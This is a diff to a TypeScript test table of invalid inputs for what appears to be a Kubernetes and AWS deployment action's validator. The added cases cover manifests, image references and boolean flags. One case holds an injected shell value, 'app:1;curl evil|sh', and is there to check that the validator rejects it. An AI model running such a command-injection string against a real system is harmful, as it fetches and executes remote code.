@@ -300,9 +300,10 @@ export const BAD_INPUTS: BadInputCase[] = [
   },
   { title: 'image with a space', inputs: deploy({ images: 'web=nginx latest' }), names: 'images' },
   {
-    title: 'image line without container=',
+    title: 'image line without container= (a bare image) and no manifests',
     inputs: deploy({ images: 'nginx:1.27' }),
     names: 'images',
+    says: /manifests/,
   },
   {
     title: 'container name that is not DNS-1123',
@@ -343,6 +344,75 @@ export const BAD_INPUTS: BadInputCase[] = [
     title: 'rollback-on-failure not a boolean',
     inputs: deploy({ 'rollback-on-failure': 'y' }),
     names: 'rollback-on-failure',
+  },
+  // kubernetes: manifests (server-side apply)
+  {
+    title: 'bare image reference without manifests',
+    inputs: { kubeconfig: KUBECONFIG, images: 'ghcr.io/org/app@sha256:' + 'c'.repeat(64) },
+    names: 'images',
+    says: /manifests/,
+  },
+  {
+    title: 'bare image reference with upper case in the path',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'ghcr.io/Org/App:1' },
+    names: 'images',
+    says: /line 1/,
+  },
+  {
+    title: 'bare image reference with a short digest',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'web=a:1\napp@sha256:abc' },
+    names: 'images',
+    says: /line 2/,
+  },
+  {
+    title: 'bare image reference with shell syntax',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'app:1;curl evil|sh' },
+    names: 'images',
+  },
+  {
+    title: 'same repository twice in bare images',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'app:1\napp:2' },
+    names: 'images',
+  },
+  {
+    title: 'workloads with only bare images',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', workloads: 'web', images: 'app:2' },
+    names: 'workloads',
+  },
+  {
+    title: 'manifests line with a control character',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/\u001b[2Jx.yaml' },
+    names: 'manifests',
+  },
+  {
+    title: 'force-conflicts without manifests',
+    inputs: deploy({ 'force-conflicts': 'true' }),
+    names: 'force-conflicts',
+  },
+  {
+    title: 'dry-run without manifests',
+    inputs: deploy({ 'dry-run': 'true' }),
+    names: 'dry-run',
+  },
+  {
+    title: 'dry-run not a boolean',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', 'dry-run': 'server' },
+    names: 'dry-run',
+  },
+  {
+    title: 'force-conflicts not a boolean',
+    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', 'force-conflicts': 'yes' },
+    names: 'force-conflicts',
+  },
+  {
+    title: 'token mode given manifests',
+    inputs: { mode: 'token', manifests: 'deploy/' },
+    names: 'manifests',
+  },
+  {
+    title: 'aws mode given dry-run',
+    inputs: aws({ 'dry-run': 'true' }),
+    names: 'dry-run',
   },
   // aws
   {
